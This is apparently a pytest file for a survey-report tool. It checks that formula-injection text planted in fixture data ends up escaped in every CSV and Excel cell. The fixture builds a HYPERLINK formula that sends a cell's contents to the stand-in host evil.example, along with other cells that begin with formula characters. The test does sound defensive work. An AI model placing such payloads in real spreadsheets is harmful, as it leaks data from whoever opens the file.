"""No live formula anywhere in the report's spreadsheets (issue 7.3), end to end.

A copy of the mini inventory whose free text starts with every character a spreadsheet
reads as the start of a formula (`=`, `+`, `-`, `@`, tab, carriage return) and with
`=HYPERLINK(...)`: pilot titles, descriptions and ids, respondent names, the dataset's name
(metadata.json) and the header of a contact column (named in the warnings table). One
`shv report` run of section 00, the section whose tables show data text (the path from the
data through the notebook, `Section.table`, the CSV and the workbook is the same for every
section; the other sections' tables hold codebook labels and numbers). Then every cell of
every CSV (header and data) and every cell of tables.xlsx (openpyxl and the raw XML) is
checked: no formula, and no text starting with one of those characters without the
apostrophe `export.safe_cell` puts before it. The hostile text must arrive (escaped) where
the report shows data text, or the test would prove nothing: titles and ids in the coding
differences of section 00, the header in its warnings, the dataset name on the about sheet.
Leading tabs and carriage returns in the data are already removed by `clean_text` on
loading; `test_export.py` writes them to CSV and Excel directly.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest

from shv_analysis.cli import main as shv_main
from shv_analysis.present.export import FORMULA_PREFIXES

pytestmark = pytest.mark.notebooks

MINI = Path(__file__).parent / "fixtures" / "mini"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def _unsafe(text) -> bool:
    """Text a spreadsheet would evaluate (a CSV number such as -2.5 is read as a number)."""
    return (
        isinstance(text, str) and text.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(text)
    )


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    work = tmp_path_factory.mktemp("hostile")
    data = work / "data"
    shutil.copytree(MINI, data)
    exp = pd.read_csv(data / "experimenten.csv", dtype=str, keep_default_na=False)
    # P1 and P6 keep their keywords, so they land in the coding differences of section 00
    exp["titel"] = [HYPERLINK + " Vroeg Eropaf"] + [
        f"{p}{t}" for p, t in zip(PREFIXES, exp["titel"][1:])
    ]
    exp.loc[5, "titel"] = "@" + exp.loc[5, "titel"]
    exp["omschrijving"] = [f"{p}{t}" for p, t in zip(PREFIXES, exp["omschrijving"])]
    exp["pilot_id"] = ["=1+1", "+P2", "-P3", "@P4", "\tP5", "-2+3"]
    exp.to_csv(data / "experimenten.csv", index=False, lineterminator="\r\n")  # CR quoted
    resp = pd.read_csv(data / "respondenten.csv", dtype=str, keep_default_na=False)
    resp["naam"] = [HYPERLINK] + [f"{p}{n}" for p, n in zip(PREFIXES, resp["naam"][1:])]
    resp = resp.drop(columns=["contactpersoon"]).rename(columns={"telefoon": "-telefoon"})
    resp.to_csv(data / "respondenten.csv", index=False, lineterminator="\r\n")
    (data / "metadata.json").write_text(json.dumps({"name": HYPERLINK, "synthetic": False}))
    out = work / "report"
    assert shv_main(["report", "--data", str(data), "--out", str(out), "--sections", "00"]) == 0
    return out


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_no_csv_cell_is_a_formula(hostile_report):
    paths = sorted((hostile_report / "tables").glob("*.csv"))
    assert len(paths) >= 5
    escaped = set()
    for path in paths:
        for row in _csv_cells(path):
            for cell in row:
                assert not _unsafe(cell), (path.name, cell)
                if cell.startswith("'") and _unsafe(cell[1:]):
                    escaped.add(cell)
    assert "'" + HYPERLINK + " Vroeg Eropaf" in escaped  # a title, in the differences
    assert {"'=1+1", "'-2+3"} <= escaped  # pilot ids
    assert "'-telefoon" in escaped  # a header named in the warnings table
    assert any(c.startswith("'@") for c in escaped)
    differences = pd.read_csv(hostile_report / "tables" / "00_datakwaliteit__differences.csv")
    assert set(differences["pilot_id"]) == {"'=1+1", "'-2+3"}


def test_no_workbook_cell_is_a_formula(hostile_report):
    path = hostile_report / "tables.xlsx"
    wb = openpyxl.load_workbook(path)
    escaped = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not _unsafe(cell.value), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("'"):
                    escaped.add(cell.value)
    about = wb.worksheets[0]
    assert about["B3"].value == "'" + HYPERLINK  # the dataset's name
    assert "'" + HYPERLINK + " Vroeg Eropaf" in escaped and "'=1+1" in escaped
    assert "'-telefoon" in escaped  # a header named in the warnings table


def test_workbook_xml_has_no_formula_and_no_unescaped_text(hostile_report):
    with zipfile.ZipFile(hostile_report / "tables.xlsx") as z:
        names = z.namelist()
        sheets = [n for n in names if re.match(r"xl/worksheets/sheet\d+\.xml$", n)]
        assert len(sheets) >= 6
        texts = []
        for name in sheets:
            root = ElementTree.fromstring(z.read(name))
            assert not root.findall(".//m:f", NS), name  # no <f> formula element
            for cell in root.iter(f"{{{NS['m']}}}c"):
                assert cell.get("t") in (None, "n", "s", "inlineStr", "b"), name
                texts += [t.text or "" for t in cell.iter(f"{{{NS['m']}}}t")]
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            for item in root.findall("m:si", NS):
                texts.append("".join(t.text or "" for t in item.iter(f"{{{NS['m']}}}t")))
    assert texts and not [t for t in texts if _unsafe(t)]
    assert "'" + HYPERLINK in texts
